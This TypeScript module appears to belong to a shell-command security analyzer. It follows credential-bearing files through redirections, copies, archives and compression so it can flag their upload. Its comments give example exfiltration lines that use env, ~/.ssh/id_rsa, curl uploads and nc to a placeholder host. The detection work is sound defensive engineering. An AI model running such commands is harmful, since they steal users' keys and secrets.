import path from "node:path";
import type { Cmd, Script, Word } from "./ir.js";
import { literalWord } from "./ir.js";
import { archiveMade } from "./archive-files.js";
import { writesCredentials } from "./data-flow.js";
import { commandName, resolved } from "./downloads.js";
import { forkContext, type Ctx } from "./evaluate-context.js";

/**
 * Files the line writes a credential to and then reads (`env > /tmp/e && curl -F f=@/tmp/e …`,
 * `cat ~/.ssh/id_rsa > k; nc x.io 80 < k`, `tar czf k.tgz ~/.ssh && curl -T k.tgz …`): each holds
 * the output of the script that wrote it, and a word naming it later on the line (the same path
 * once resolved) carries that script as a variable holding a credential does (`Word.held`), so
 * `data-flow.ts` follows it to where it is sent. A file written again with something else carries
 * nothing more.
 */

/**
 * Options of HTTP clients whose value is a file the client writes, not one it sends (`curl -o F`,
 * `wget -O F`); other commands' options of the same names are read as any (`gh gist edit ID -a F` adds F).
 */
const OUTPUT_OPTIONS: Readonly<Record<string, ReadonlySet<string>>> = {
  curl: new Set(["-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar", "--trace", "--trace-ascii", "--stderr"]),
  wget: new Set(["-O", "--output-document", "-o", "--output-file", "-a", "--append-output"]),
};

/** The words of a command, each one that names a file holding a credential carrying the script that wrote it. */
export function withCarried(argv: readonly Word[], ctx: Ctx): Word[] {
  if (ctx.credentialFiles.size === 0) return [...argv];
  // The client the words run, behind any wrappers (`sudo curl -o F …`).
  const client = argv.find((w) => !w.dynamic && OUTPUT_OPTIONS[commandName(w.text, false)] !== undefined);
  const outputs = client ? OUTPUT_OPTIONS[commandName(client.text, false)] : undefined;
  return argv.map((w, i) => {
    const before = argv[i - 1];
    return before && !before.dynamic && outputs?.has(before.text) ? w : carried(w, ctx);
  });
}

/**
 * A word with the scripts of the files it names (as a whole, after `@` or `<` as curl's `-d @F` and
 * `-F f=@F;type=…` name them, after `=` as `--upload-file=F` does) that hold a credential.
 */
export function carried(word: Word, ctx: Ctx): Word {
  if (word.dynamic || ctx.credentialFiles.size === 0) return word;
  const text = word.text;
  const at = /[@<]([^;]+)/.exec(text)?.[1];
  const eq = text.startsWith("-") && text.includes("=") ? text.slice(text.indexOf("=") + 1) : undefined;
  const held = [text, at, eq].flatMap((name) => {
    const script = name ? ctx.credentialFiles.get(filePath(name, ctx)) : undefined;
    return script ? [script] : [];
  });
  return held.length === 0 ? word : { ...word, held: [...(word.held ?? []), ...new Set(held)] };
}

/**
 * Remembers what a command's output redirections write (`> F`, `>> F`, `&> F`): the pipeline up to
 * it where that holds a credential; a file it writes over with anything else, as no longer holding one.
 */
export function recordCredentialRedirects(cmd: Cmd, upstream: readonly Cmd[], ctx: Ctx): void {
  if (ctx.shell === "powershell") return;
  // Standard output: `> F`, `>> F`, `>| F`, `1> F`, and `&> F`, `&>> F` with the errors.
  const outputs = cmd.redirects.filter((r) => !r.target.dynamic && (r.op.startsWith("&>") || ((r.fd ?? 1) === 1 && [">", ">>", ">|"].includes(r.op))));
  if (outputs.length === 0) return;
  const script: Script = { units: [{ kind: "pipeline", stages: [...upstream, cmd] }] };
  const secret = writesCredentials(script, ctx.paths);
  for (const r of outputs) keep(r.target.text, secret ? script : undefined, r.op.includes(">>"), ctx);
}

/**
 * Remembers the files a command makes from others: copies (`cp`, `mv`), archives (`tar -c`, `zip`,
 * `7z a`) and compressed files (`gzip F` makes `F.gz`) hold what their sources hold.
 */
export function recordCredentialCopies(name: string, args: readonly Word[], ctx: Ctx): void {
  if (ctx.shell === "powershell" || args.some((w) => w.dynamic)) return;
  for (const [dest, sources] of madeFrom(name, args)) {
    const script: Script = { units: [{ kind: "pipeline", stages: [{ kind: "cmd", argv: [literalWord("cat"), ...sources.map((w) => carried(w, ctx))], redirects: [] }] }] };
    keep(dest, writesCredentials(script, ctx.paths) ? script : undefined, false, ctx);
  }
}

function keep(file: string, script: Script | undefined, append: boolean, ctx: Ctx): void {
  // Nothing to record, and no file recorded to drop: most lines' writes (`echo x > out.txt`).
  if (!script && ctx.credentialFiles.size === 0) return;
  if (file === "" || file === "-" || file.startsWith("/dev/")) return;
  const at = filePath(file, ctx);
  const was = ctx.credentialFiles.get(at);
  if (script) ctx.credentialFiles.set(at, append && was ? { units: [...was.units, ...script.units] } : script);
  else if (!append) ctx.credentialFiles.delete(at);
}

function filePath(file: string, ctx: Ctx): string {
  const home = ctx.paths.home;
  const expanded = file === "~" ? home : file.startsWith("~/") ? `${home}/${file.slice(2)}` : file;
  return resolved(expanded, ctx.paths.cwd);
}

/** Each file a command makes and the files it makes it from. */
function madeFrom(name: string, args: readonly Word[]): [string, Word[]][] {
  if (name === "cp" || name === "mv") return copies(args);
  const made = archiveMade(name, args);
  if (made) return name === "zip" && made.sources.length === 0 ? [] : [[made.archive.text, made.sources]];
  const ext = COMPRESSORS[name];
  if (ext && !args.some((w) => /^-[^-]*[cdlt]|^--(stdout|to-stdout|decompress|uncompress|list|test)$/.test(w.text))) {
    return args.filter((w) => !w.text.startsWith("-")).map((w) => [`${w.text}${ext}`, [w]]);
  }
  return [];
}

const COMPRESSORS: Record<string, string> = { gzip: ".gz", bzip2: ".bz2", xz: ".xz", zstd: ".zst", lz4: ".lz4" };

/** `cp SRC… DEST`, `cp -t DIR SRC…`: the destination, and each source's name in it where it may be a folder. */
function copies(args: readonly Word[]): [string, Word[]][] {
  let target: string | undefined;
  const ops: Word[] = [];
  let options = true;
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    if (options && w.text === "--") options = false;
    else if (options && (w.text === "-t" || w.text === "--target-directory")) target = args[++i]?.text;
    else if (options && w.text.startsWith("--target-directory=")) target = w.text.slice("--target-directory=".length);
    else if (options && w.text === "-S") i++;
    else if (!options || !/^-./.test(w.text)) ops.push(w);
  }
  const into = (dir: string, sources: Word[]): [string, Word[]][] => sources.map((s) => [path.posix.join(dir, path.posix.basename(s.text)), [s]]);
  if (target !== undefined) return into(target, ops);
  const dest = ops.at(-1);
  const sources = ops.slice(0, -1);
  if (!dest || sources.length === 0) return [];
  return [[dest.text, sources], ...into(dest.text, sources)];
}

/**
 * Judges `argv`, a command given the key files `find` found (`found`, from `find-files.ts`'s `keyFilesFound`),
 * for where it sends them: only the findings about those files are kept, as the command given
 * find's usual stand-in was judged for all else.
 */
export function judgeFoundKeys(argv: Word[], found: Word, ctx: Ctx): void {
  const reading: Ctx = { ...forkContext(ctx), findings: [] };
  ctx.ops.runArgv(argv, { kind: "cmd", argv, redirects: [] }, [], reading);
  ctx.findings.push(...reading.findings.filter((f) => f.subject === found.text && f.category === "network exposure"));
}
